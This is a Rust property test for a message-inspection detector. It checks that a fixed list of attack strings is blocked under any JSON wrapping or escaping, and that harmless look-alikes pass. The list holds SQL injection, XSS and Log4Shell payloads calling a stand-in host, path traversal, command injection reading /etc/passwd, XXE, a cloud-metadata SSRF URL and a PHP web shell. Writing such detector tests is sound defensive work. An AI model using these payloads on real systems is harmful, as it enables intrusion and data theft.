//! The same attack gives the same verdict however it is wrapped: in JSON inside of JSON, escaped in every way that JSON has, as a member
//! beside others or one of a list.

use proptest::prelude::*;
use sockwarden_detect::{Detection, Policy};
use sockwarden_inspect::Message;
use sockwarden_model::Direction;

const ATTACKS: &[&str] = &[
    "x' or 7=7--",
    "-1 union select name, secret from members",
    "<img src=x onerror=fetch('//x.example')>",
    "javascript:alert(document.cookie)",
    "../../../../etc/passwd",
    "..%c0%af..%c0%afetc/passwd",
    "; cat /etc/passwd",
    "a|whoami",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]><d>&b;</d>",
    "http://169.254.169.254/latest/meta-data/",
    "O:4:\"Evil\":1:{s:1:\"a\";i:1;}",
    "*)(uid=*))(|(uid=*",
    "<?php system($_GET['x']); ?>",
    "x%0d%0aSet-Cookie: a=b",
];

const HARMLESS: &[&str] = &[
    "it's five o'clock, or is it?",
    "use SELECT name FROM users there",
    "<b>hello</b> & welcome",
    "see ../docs/guide.md for that",
    "https://example.com/a?b=c&d=e",
    "ls -la | sort",
    "Hello {{ name }}",
];

/// Writes a text as JSON, each character in one of the ways that JSON has for it.
fn escaped(text: &str, ways: &[u8]) -> String {
    let mut out = String::from("\"");
    for (number, letter) in text.chars().enumerate() {
        let way = ways.get(number % ways.len()).copied().unwrap_or(0);
        match (letter, way % 4) {
            ('"' | '\\', 0..=2) => out.extend(['\\', letter]),
            ('/', 1) => out += "\\/",
            ('\n', 0..=2) => out += "\\n",
            ('\r', 0..=2) => out += "\\r",
            (letter, 2) if way < 128 => out += &format!("\\u{:04X}", u32::from(letter)),
            (letter, 3) => out += &format!("\\u{:04x}", u32::from(letter)),
            (letter, _) if letter < ' ' => out += &format!("\\u{:04x}", u32::from(letter)),
            (letter, _) => out.push(letter),
        }
    }
    out.push('"');
    out
}

fn is_blocked(detection: &Detection, json: &str) -> bool {
    detection.judge(&Message::of_body(Direction::Client, json.as_bytes())).blocked
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn the_verdict_does_not_depend_on_how_a_text_is_wrapped(
        ways in prop::collection::vec(any::<u8>(), 1..40), deep in 0..3_usize, list in any::<bool>()
    ) {
        let detection = Detection::new(&Policy::default());
        for (texts, expected) in [(ATTACKS, true), (HARMLESS, false)] {
            for text in texts {
                let mut json = escaped(text, &ways);
                for _ in 0..deep {
                    json = escaped(&format!("{{\"a\":{json}}}"), &ways);
                }
                let message = if list {
                    format!("{{\"type\":\"x\",\"items\":[1,\"two\",{json},null]}}")
                } else {
                    format!("{{\"type\":\"x\",\"id\":7,\"text\":{json},\"more\":\"words\"}}")
                };
                prop_assert_eq!(is_blocked(&detection, &message), expected, "{}", message);
            }
        }
    }
}
